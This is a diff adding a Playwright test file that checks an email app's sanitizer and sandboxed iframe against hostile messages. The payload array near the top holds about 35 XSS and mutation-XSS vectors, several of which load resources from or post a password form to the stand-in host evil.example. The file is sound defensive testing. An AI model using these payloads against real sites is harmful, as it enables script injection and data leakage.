@@ -1,0 +1,170 @@
+import type { Page } from "playwright/test";
+import { expect, test } from "../fixtures/returning-visitor.ts";
+import { openSignedIn } from "../fixtures/session.ts";
+import { stopServiceWorker } from "../fixtures/stop-service-worker.ts";
+
+/** A host that no page may contact. Each payload tries to load something from it or to set `window.hacked`. */
+const EVIL = "https://evil.example";
+const HACK = "top.hacked=1,parent.hacked=1,self.hacked=1";
+
+const payloads: readonly string[] = [
+  `<script>${HACK}</script>`,
+  `<script src="${EVIL}/a.js"></script>`,
+  `<img src=x onerror="${HACK}">`,
+  `<img src="${EVIL}/pixel.png" width="1" height="1">`,
+  `<img srcset="${EVIL}/1x.png 1x, ${EVIL}/2x.png 2x" alt="set">`,
+  `<picture><source srcset="${EVIL}/source.webp"><img src="${EVIL}/fallback.png"></picture>`,
+  `<svg onload="${HACK}"><script>${HACK}</script><image href="${EVIL}/svg.png"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${HACK}"></iframe></foreignObject></svg>`,
+  `<svg><animate xlink:href="#x" attributeName="href" values="javascript:${HACK}"/><a id="x"><text>go</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${HACK}"></style></mglyph></table></mtext></math>`,
+  `<math href="javascript:${HACK}"><mi xlink:href="javascript:${HACK}">click</mi></math>`,
+  `<iframe src="${EVIL}/frame"></iframe>`,
+  `<iframe srcdoc="<script>${HACK}</script>"></iframe>`,
+  `<form action="${EVIL}/form"><input name="password" autofocus onfocus="${HACK}"><button>Go</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
+  `<base href="${EVIL}/"><img src="relative.png"><a href="relative">relative</a>`,
+  `<link rel="stylesheet" href="${EVIL}/style.css"><link rel="preload" as="image" href="${EVIL}/preload.png">`,
+  `<style>@import url("${EVIL}/import.css"); body{background:url(${EVIL}/body.png)}</style><p>styled</p>`,
+  `<div style="background:url('${EVIL}/inline.png');width:expression(${HACK})">inline</div>`,
+  `<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>`,
+  `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/cell.png">cell</td></tr></table>`,
+  `<a href="javascript:${HACK}">link</a>`,
+  `<a href="java&#10;script:${HACK}">line break</a>`,
+  `<a href=" &#1;javascript:${HACK}">control character</a>`,
+  `<a href="data:text/html,<script>${HACK}</script>">data link</a>`,
+  `<a href="vbscript:x" ping="${EVIL}/ping">ping</a>`,
+  `<object data="${EVIL}/object.swf"></object><embed src="${EVIL}/embed.swf">`,
+  `<template><img src=x onerror="${HACK}"></template><noscript><p title="</noscript><img src=x onerror='${HACK}'>"></noscript>`,
+  `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4" autoplay onloadstart="${HACK}"></video><audio src="${EVIL}/a.mp3" autoplay>`,
+  `<input type="image" src="${EVIL}/input.png"><body onload="${HACK}" background="${EVIL}/bg.png">`,
+  `<details open ontoggle="${HACK}"><summary>toggle</summary></details><marquee onstart="${HACK}">m</marquee>`,
+  `<p id="x" name="documentElement" onmouseover="${HACK}" tabindex=1 autofocus onfocus="${HACK}">clobber</p>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HACK}'/>">`,
+  `<img src="/apps/chat/chats/get-chat?id=1"><img src="//evil.example/double.png"><img src="\\\\evil.example\\back.png">`,
+  `<xmp><p title="</xmp><img src=x onerror=${HACK}>"></xmp><textarea><p title="</textarea><img src=x onerror='${HACK}'>">`,
+];
+
+/** The first id of the emails with payloads. */
+const FIRST_ID = 1_001;
+
+/** Stores one email per payload directly in the database, because the calls accept no such message. */
+async function storePayloads(page: Page) {
+  // The worker caches rows in memory.
+  await stopServiceWorker(page);
+  await page.evaluate(
+    async ({ messages, firstId }) => {
+      const db = await new Promise<IDBDatabase>((resolve, reject) => {
+        const opening = indexedDB.open("phrom");
+        opening.onsuccess = () => resolve(opening.result);
+        opening.onerror = () => reject(opening.error);
+      });
+      const transaction = db.transaction("emails", "readwrite");
+      const store = transaction.objectStore("emails");
+      const template = await new Promise<{ subject: string }>((resolve) => {
+        const reading = store.get(13);
+        reading.onsuccess = () => resolve(reading.result);
+      });
+      for (const [index, message] of messages.entries())
+        store.put({
+          ...template,
+          id: firstId + index,
+          subject: `Payload ${index + 1}`,
+          labels: [],
+          message: `<p>Before</p>${message}`,
+        });
+      await new Promise((resolve) => {
+        transaction.oncomplete = resolve;
+      });
+      db.close();
+    },
+    { messages: payloads, firstId: FIRST_ID },
+  );
+}
+
+test("hostile emails run no script, send no request and change nothing outside of their frame", async ({
+  page,
+  context,
+  allowConsole,
+}) => {
+  test.setTimeout(180_000);
+  // Chromium reports handlers and base URLs that the page's policy refuses already while DOMPurify parses them.
+  allowConsole(/violates the following Content Security Policy|relative\.png/);
+  await page.setViewportSize({ width: 1280, height: 800 });
+  await openSignedIn(page, "/apps/email");
+  await page.locator("[data-email]").first().waitFor();
+  await storePayloads(page);
+
+  const foreignRequests: string[] = [];
+  const { origin } = new URL(page.url());
+  context.on("request", (request) => {
+    const url = new URL(request.url());
+    if (/^https?:$/.test(url.protocol) && url.origin !== origin) foreignRequests.push(request.url());
+    if (request.resourceType() === "image" && url.pathname.startsWith("/apps/")) foreignRequests.push(request.url());
+  });
+  const dialogs: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+
+  for (const [index, payload] of payloads.entries()) {
+    await page.goto(`/en/apps/email?email=${FIRST_ID + index}`);
+    const frame = page.locator("main iframe");
+    await expect(page.getByRole("heading", { name: `Payload ${index + 1}`, exact: true })).toBeVisible();
+    await expect(frame, payload).toHaveCount(1);
+    await expect(frame).not.toHaveAttribute("sandbox", /allow-(scripts|forms|top-navigation)/);
+    const body = frame.contentFrame().locator("body");
+    await expect(body).toContainText("Before");
+    // Whatever is left can be clicked without effect on this page.
+    for (const link of await body.locator("a").all()) {
+      expect((await link.getAttribute("href")) ?? "", payload).toMatch(/^(https?:|mailto:|tel:|$)/);
+      if (await link.getAttribute("href")) expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
+    }
+    await body.locator("p").first().hover();
+    const unexpected =
+      "script, style, iframe, form, input, button, object, embed, svg, math, meta, base, link, template, video, audio, source, [style], [id], [onerror], [onload], [tabindex], [srcset], [background]";
+    await expect(body.locator(unexpected), payload).toHaveCount(0);
+    expect(await page.evaluate(() => "hacked" in window), payload).toBe(false);
+    expect(page.frames().length, payload).toBe(2);
+    expect(new URL(page.url()).pathname, payload).toBe("/en/apps/email");
+  }
+  expect(foreignRequests).toEqual([]);
+  expect(dialogs).toEqual([]);
+
+  // A message with a remote picture says that it is blocked, and printing loads nothing either.
+  await page.goto(`/en/apps/email?email=${FIRST_ID + 3}`);
+  await expect(page.getByText("1 picture from another site is blocked")).toBeVisible();
+  await page.getByRole("region", { name: "Open email" }).getByRole("button", { name: "Print" }).click();
+  await expect(page.locator("iframe[data-print-frame]").contentFrame().locator("article")).toContainText("Before");
+  expect(foreignRequests).toEqual([]);
+});
+
+test("the frame of a message refuses scripts, forms and foreign pictures even without the sanitizer", async ({
+  page,
+  allowConsole,
+}) => {
+  // The browser reports what the policy of the frame has refused.
+  allowConsole(/Content Security Policy|sandboxed|ERR_|Failed to load/);
+  await page.setViewportSize({ width: 1280, height: 800 });
+  await openSignedIn(page, "/apps/email?email=26");
+  const frame = page.locator("main iframe");
+  await expect(frame.contentFrame().locator("body")).toContainText("Hi Araya");
+  const foreignRequests: string[] = [];
+  const addForeign = (url: string) => url.startsWith(EVIL) && foreignRequests.push(url);
+  page.on("requestfinished", (request) => addForeign(request.url()));
+  // The browser lists refused requests too; only those that it did not refuse have left the device.
+  page.on("requestfailed", (request) => request.failure()?.errorText !== "csp" && addForeign(request.url()));
+  await frame.evaluate(
+    (element: HTMLIFrameElement, html) => {
+      const head = element.srcdoc.slice(0, element.srcdoc.indexOf("<body>"));
+      element.srcdoc = `${head}<body><p>Refused</p>${html}</body>`;
+    },
+    payloads.filter((payload) => !payload.includes("http-equiv")).join(""),
+  );
+  await expect(frame.contentFrame().locator("body")).toContainText("Refused");
+  await expect(frame.contentFrame().locator("form")).toHaveCount(1);
+  await page.waitForLoadState("networkidle");
+  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+  expect(foreignRequests).toEqual([]);
+});
